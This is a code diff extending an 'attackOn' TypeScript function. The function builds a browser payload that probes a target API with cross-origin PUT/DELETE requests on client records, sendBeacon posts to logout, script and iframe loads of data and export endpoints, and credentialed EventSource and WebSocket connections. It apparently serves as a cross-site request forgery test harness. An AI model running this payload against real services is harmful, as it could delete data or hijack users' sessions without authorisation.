@@ -61,11 +61,24 @@ export const attackOn = (target: Target): string => `(async () => {
     await call("/v1/auth/me", { mode });
     await call("/v1/clients", { mode, headers: mode === "cors" ? { "X-CSRF-Token": "x" } : {} });
   }
-  for (const path of ["/v1/auth/me", "/v1/clients", "/v1/auth/logout"]) {
+  for (const method of ["PUT", "DELETE"])
+    await call("/v1/clients", { method, mode: "cors", body, headers: { "Content-Type": "application/json" } });
+  const json = new Blob([body], { type: "text/plain" });
+  for (const path of ["/v1/ticket-boards", "/v1/auth/logout"]) navigator.sendBeacon(base + path, json);
+  for (const path of ["/v1/auth/me", "/v1/clients", "/v1/auth/logout", "/v1/clients/export"]) {
     const image = new Image();
     image.src = base + path;
     if ((await ended(image, "load", "error")) === "load") read.push(path);
+    const script = Object.assign(document.createElement("script"), { src: base + path });
+    document.body.append(script);
+    if ((await ended(script, "load", "error")) === "load") read.push("script " + path);
+    const frame = Object.assign(document.createElement("iframe"), { src: base + path });
+    document.body.append(frame);
+    await ended(frame, "load");
   }
+  const events = new EventSource(base + "/v1/events", { withCredentials: true });
+  if ((await ended(events, "open", "error")) === "open") read.push("EventSource");
+  events.close();
   const socket = new WebSocket(base.replace("http", "ws") + "/v1/events");
   if ((await ended(socket, "open", "error")) === "open") read.push("WebSocket");
   return read;
